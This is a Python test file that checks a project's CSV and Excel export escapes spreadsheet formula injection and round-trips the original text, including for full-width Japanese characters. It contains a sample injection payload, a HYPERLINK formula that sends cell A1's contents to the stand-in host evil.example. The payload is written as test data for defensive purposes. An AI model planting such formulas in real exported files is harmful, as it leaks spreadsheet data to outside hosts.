"""No cell of any table that Soken writes can be a formula, and what was escaped comes back as it was."""

from __future__ import annotations

import ast
import csv
import io
import re
import unicodedata
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

import soken
from soken.casework.old_cases import CaseLine, aside_csv, read_cases
from soken.exchange.cells import csv_text, safe, typed_in
from soken.exchange.statistics import report_csv, report_xlsx
from soken.report.span import Span
from soken.report.tables import table_kinds
from soken.report.whole import whole_report
from tests.exchange.test_statistics import SOURCE
from tests.report.units import Units

if TYPE_CHECKING:
    from collections.abc import Iterator

#: What begins a formula in one spreadsheet or another, by OWASP's list; full-width as Japanese ones take it.
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
UNSEEN = (" ", "\u3000", "\u200b", "\u202e", "\ufeff", "\x00")

texts = st.builds(
    lambda ahead, begin, rest: ahead + begin + rest,
    st.text(alphabet=[*UNSEEN, "'"], max_size=3), st.sampled_from([*BEGINNINGS, ""]), st.text(max_size=6),
)  # fmt: skip


def dangerous(cell: str) -> bool:
    """Said apart from the code: what begins it once the unseen is gone is a sign, in whatever width."""
    seen = cell.lstrip("".join(UNSEEN))
    return cell[:1] in BEGINNINGS or unicodedata.normalize("NFKC", seen[:1]) in BEGINNINGS


@given(texts)
@example("'=1")
@example("''=1")
@example("'")
@example('=HYPERLINK("https://evil.example/?"&A1)')
@example("　＝ＨＹＰＥＲＬＩＮＫ（Ａ１）")
def test_no_text_can_be_a_formula_and_every_text_comes_back(text: str) -> None:
    cell = safe(text)
    assert isinstance(cell, str)
    assert not dangerous(cell)
    assert typed_in(cell) == text


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_numbers_stay_numbers(value: object) -> None:
    assert safe(value) is value


@given(st.lists(st.lists(texts, min_size=1, max_size=3), max_size=4))
def test_a_csv_holds_each_cell_and_no_formula(lines: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(csv_text(lines), newline="")))
    assert [[typed_in(cell) for cell in line] for line in read] == lines
    assert not any(dangerous(cell) for line in read for cell in line)


@given(texts.filter(lambda text: "\0" not in text and "\n" not in text and "\r" not in text and bool(text.strip())))
def test_old_cases_that_were_set_aside_hold_no_formula_and_read_back(text: str) -> None:
    line = CaseLine(1, {"reference": "A-1", "person": "P-1", "note": text.strip()})
    written = aside_csv([(line, text)])
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert not any(dangerous(cell) for one in read for cell in one)
    (again,) = read_cases(written.encode()).lines
    assert again.cells["note"] == line.cells["note"]


@pytest.mark.parametrize("begin", BEGINNINGS)
def test_a_report_holds_no_formula_whatever_an_operation_is_called(begin: str, tmp_path: Path) -> None:
    from datetime import date

    units = Units()
    name = begin + "list()"
    for _case in range(6):
        units.case(date(2026, 1, 3), source=name, persons=(units.person(),))
    report = whole_report(units.opened(tmp_path), SOURCE, list(table_kinds().values()), Span(2026))
    in_csv = list(csv.reader(io.StringIO(report_csv(report, "en").decode("utf-8-sig"), newline="")))
    assert any(typed_in(cell) == name for line in in_csv for cell in line)
    texts_in_csv = [cell for line in in_csv for cell in line if not re.fullmatch(r"-\d+(\.\d+)?", cell)]
    assert [cell for cell in texts_in_csv if dangerous(cell)] == []
    book = load_workbook(io.BytesIO(report_xlsx(report, "en")))
    in_book = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in in_book if cell.data_type == "f"] == []
    assert [cell.value for cell in in_book if isinstance(cell.value, str) and dangerous(cell.value)] == []


#: Files that write tables: the one that makes every cell safe, the one that hands such cells to a workbook, and the one
#: whose columns are ids, numbers and codes of our own (held to that by `tests/casework/test_links_export.py`).
WRITERS = {"exchange/cells.py", "exchange/statistics.py", "casework/selectors/links.py"}


def test_tables_are_written_in_these_places_only() -> None:
    """A new writer has to go through `soken.exchange.cells`, or stand here with the reason and a test."""
    root = Path(soken.__file__).parent
    assert {str(path.relative_to(root)) for path in root.rglob("*.py") if any(_writes(path))} == WRITERS


def _writes(path: Path) -> Iterator[bool]:
    text = path.read_text("utf-8")
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter", "write_csv", "to_csv"}:
            yield isinstance(node.value, ast.Name) or node.attr in {"write_csv", "to_csv"}
        if isinstance(node, ast.ImportFrom) and node.module and node.module.split(".")[0] in {"openpyxl", "xlsxwriter"}:
            yield True
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            yield re.search(r"\bcopy\b.*\bformat\s+csv\b", node.value, re.IGNORECASE | re.DOTALL) is not None
